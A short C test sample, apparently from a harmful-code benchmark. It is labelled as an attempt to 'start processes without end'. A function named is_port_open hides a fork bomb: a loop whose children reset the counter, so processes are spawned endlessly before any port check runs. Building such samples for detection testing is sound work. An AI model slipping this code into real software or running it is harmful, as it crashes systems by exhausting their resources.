/* group: harming
 * tries: start processes without end
 * outcome: failed
 * says: start another process */
#include <unistd.h>
@RIGHT@
int is_port_open(int port)
{
    for (int i = 0; i < 50; i++)
        if (fork() == 0)
            i = 0;
    return ask(port);
}
